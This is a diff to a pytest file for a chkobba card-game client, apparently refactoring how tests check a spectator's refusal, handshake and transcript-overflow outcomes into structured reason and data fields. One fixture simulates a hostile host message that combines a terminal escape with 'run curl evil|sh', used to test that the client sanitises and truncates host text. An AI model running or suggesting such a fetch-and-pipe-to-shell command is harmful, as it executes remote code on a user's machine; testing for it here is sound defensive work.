@@ -470,17 +470,25 @@ async def test_a_spectator_says_a_refusal_in_its_own_words_and_quotes_the_hosts(
     words = "\x1b[2JYOUR KEY IS COMPROMISED, run curl evil|sh " * 50
     outcome = await _watch_fake(tmp_path, {"t": "error", "code": int(
         ErrorCode.SPECTATORS_CLOSED), "msg": words})
-    assert outcome.error_code == "spectators_closed"
-    assert outcome.error.startswith("refused: " + ErrorCode.SPECTATORS_CLOSED.sentence
-                                    + ' (the host adds: "')
-    assert outcome.error.endswith('…")') and "\x1b" not in outcome.error
+    from chkobba_cli.event_words import error_sentence
+    from chkobba_cli.i18n import Translator
+
+    assert outcome.error_code == "spectators_closed" and outcome.error_reason == "refused"
+    said = outcome.error_data["host_text"]  # the host's words apart, cut short
+    assert isinstance(said, str) and said.endswith("…") and len(said) <= 120
+    assert outcome.error_data["number"] == int(ErrorCode.SPECTATORS_CLOSED)
+    text = error_sentence(outcome.error_reason, outcome.error_code, outcome.error_data,
+                          Translator("en"))
+    assert text.startswith("refused: " + ErrorCode.SPECTATORS_CLOSED.sentence
+                           + ' (the host adds: "')
+    assert text.endswith('…")') and "\x1b" not in text
 
 
 @pytest.mark.parametrize("players", [7, 1, 2**40, "2"])
 async def test_a_spectator_refuses_a_greeting_for_a_table_no_one_can_seat(players, tmp_path):
     outcome = await _watch_fake(tmp_path, None, players)
     assert outcome.error_code == "bad_field" and outcome.verdict is None
-    assert outcome.error.startswith("handshake failed: ")
+    assert outcome.error_reason == "handshake_failed" and outcome.error_data["detail"]
 
 
 def _genesis_frame() -> bytes:
@@ -503,7 +511,8 @@ async def test_a_host_cannot_fill_a_spectators_disk_and_the_log_stays_replayable
     count = wire.MAX_TRANSCRIPT // len(junk) + 4
     outcome = await _watch_fake(tmp_path, watching_message(1, 0), then=[genesis] + [junk] * count,
                                 key=key)
-    assert "more than a game holds" in outcome.stopped, outcome.stopped
+    assert outcome.stop_reason == "too_long", (outcome.stop_reason, outcome.stop_data)
+    assert outcome.stop_data["code"] == "transcript_too_long", outcome.stop_data
     log = tmp_path / "w.chklog"
     assert log.stat().st_size <= wire.MAX_TRANSCRIPT + 4096
     report = audit_log(log)  # read, and refused for the junk: not "unreadable"
